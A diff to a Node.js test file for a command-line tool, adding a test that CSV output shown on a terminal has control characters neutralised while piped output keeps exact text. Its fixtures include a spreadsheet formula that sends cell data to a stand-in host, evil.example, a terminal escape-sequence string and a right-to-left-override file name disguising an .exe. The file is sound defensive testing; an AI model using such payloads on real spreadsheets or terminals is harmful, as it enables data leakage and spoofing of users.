@@ -1,9 +1,10 @@
 // Attacker-controlled names stay inert in every output format.
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
-import { runCli, tempDir } from './helpers/cli.ts';
+import { BIN, runCli, tempDir } from './helpers/cli.ts';
 
 const ESC_NAME = '\u001b[2J\u001b]0;owned\u0007Evil\u001b[0m';
 const FORMULA_UPN = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
@@ -52,6 +53,17 @@ describe('hostile text in events output', () => {
     const cells = r.stdout.split(/,|\r\n/).map((c) => c.replace(/^"/, ''));
     for (const cell of cells) assert.ok(!/^[=+\-@]/.test(cell), `cell starts with a formula character: ${cell}`);
     assert.ok(r.stdout.includes(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`) || r.stdout.includes("'=HYPERLINK"));
+  });
+
+  it('shows CSV printed on a terminal inert, and keeps it exact in a file or pipe', async () => {
+    // `script` runs the command on a pseudo-terminal, as a responder typing it would.
+    const cmd = [process.execPath, BIN, '--store', store, 'events', '--csv'].map((a) => `'${a}'`).join(' ');
+    const tty = execFileSync('script', ['-qec', cmd, '/dev/null'], { encoding: 'utf8', env: { ...process.env, TAKEBACK_LANG: 'en' } });
+    assert.ok(!/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202e\ufeff]/.test(tty), 'no raw control character reaches the terminal');
+    assert.match(tty, /admin\\u202egpj\.exe/);
+    const piped = await runCli(['--store', store, 'events', '--csv']);
+    assert.ok(piped.stdout.startsWith('\ufeff'), 'a file gets the BOM Excel needs');
+    assert.ok(piped.stdout.includes(BIDI_NAME), 'a file keeps the exact text');
   });
 
   it('keeps the exact text in JSON, escaped', async () => {
